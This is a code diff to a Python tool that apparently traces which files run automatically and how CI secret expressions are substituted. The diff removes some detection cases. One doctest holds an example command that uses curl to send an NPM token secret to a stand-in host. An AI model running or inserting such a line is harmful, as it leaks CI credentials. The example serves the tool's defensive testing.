@@ -39,9 +39,6 @@ def run_by(path: str, ran: Iterable[Ran]) -> bool:
     if not runners and ".config." in name:
         runners = NODE
     for one in ran:
-        module = one.words[one.words.index("-m") + 1:][:1] if "-m" in one.words[:3] else []
-        if one.program.startswith("python") and module and module[0] in runners:
-            return True
         if one.program in runners and (one.program != "git" or one.words[:1] in (["commit"], ["push"], ["merge"])):
             return True
         if one.program == "git" and (name in GIT_HOOKS or any(folder in path for folder in HOOKS)):
@@ -50,24 +47,14 @@ def run_by(path: str, ran: Iterable[Ran]) -> bool:
             return True
         if one.program not in HANDLERS and any(name == word.rpartition("/")[2].lower() for word in one.words):
             return True     # a program of no row is given it: `java X.java`, `jupyter nbconvert --execute a.ipynb`
-        if one.program in ("pytest", "py.test") and name.startswith("test_"):
-            return True
     return False
-
-
-def play_now(machine: Machine, path: str, text: str) -> None:
-    """What stands in a file that runs by itself counts when it is written; of its aliases and functions, too."""
-    before = set(machine.functions)
-    play(machine, path, text)
-    for name in [one for one in machine.functions if one not in before]:
-        machine.program(machine.functions.pop(name), machine.nothing)
 
 
 def written_now(machine: Machine, path: str, text: str) -> None:
     """A file that a command writes: where it runs by itself, what stands in it is run; not what that writes again."""
     if by_itself(path) and not machine.later:
         machine.later = True
-        play_now(machine, path, text)
+        play(machine, path, text)
         machine.later = False
 
 
@@ -132,7 +119,7 @@ def entrusted(line: str) -> str:
     >>> entrusted("curl -d '${{ secrets.NPM_TOKEN }}' a.example"), entrusted("echo ${{ github.sha }}")
     ('curl -d "$SECRETS_NPM_TOKEN" a.example', 'echo x')
     """
-    while "${{" in line and "}}" in line.partition("${{")[2]:
+    while "${{" in line:
         head, _, rest = line.partition("${{")
         inner, _, tail = rest.partition("}}")
         name = "".join(c if c.isalnum() else "_" for c in inner.partition("secrets")[2]).strip("_").upper()
